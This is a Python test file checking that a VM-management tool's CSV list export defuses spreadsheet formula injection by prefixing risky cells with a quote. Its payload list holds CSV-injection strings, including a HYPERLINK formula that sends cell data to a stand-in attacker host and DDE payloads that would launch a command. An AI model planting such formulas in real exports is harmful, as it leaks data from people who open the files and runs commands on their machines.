"""CSV formula injection through the WAT's list export: a name or description that
starts with ``=``, ``+``, ``-`` or ``@`` must not reach a spreadsheet as a formula.

A tenant administrator (or a user, through a self-chosen name somewhere) stores
``=HYPERLINK(...)``/``@SUM(...)`` in a field; a superadmin exports the list and opens
it in a spreadsheet, which would run it. The export prefixes such cells with ``'``."""

from __future__ import annotations

import csv
import io
from typing import Any

from tests.wat.conftest import Wat
from tests.wat.listviews import wat

__all__ = ["wat"]

PAYLOADS = ('=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0")  # fmt: skip


def _act(w: Wat, csrf: str, action: str, **body: Any) -> dict[str, Any]:
    out: dict[str, Any] = w.client.post(
        "/api", json={"action": action, **body}, headers={"X-CSRF-Token": csrf}
    ).json()
    return out


def test_exported_cells_never_start_a_formula(wat: Wat) -> None:
    csrf = wat.login()
    ids = []
    for i, payload in enumerate(PAYLOADS):
        args = {"name": f"formula{i}", "user_id": wat.world.users["A"],
                "osf_id": wat.world.osfs["A"], "description": payload}  # fmt: skip
        created = _act(wat, csrf, "vm_create", arguments=args)
        assert created["status"] == 0, created
        ids.append(created["rows"][0]["id"])
    shown = {"csrf": csrf, "col": ["id", "name", "description"]}
    assert wat.client.post("/test-vms/columns", data=shown).status_code == 303
    r = wat.client.get("/test-vms.csv?f.name=formula&sort=name")
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.text)))
    assert rows[0] == ["Id", "Name", "Description"]
    assert [row[2] for row in rows[1:]] == ["'" + p for p in PAYLOADS]
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
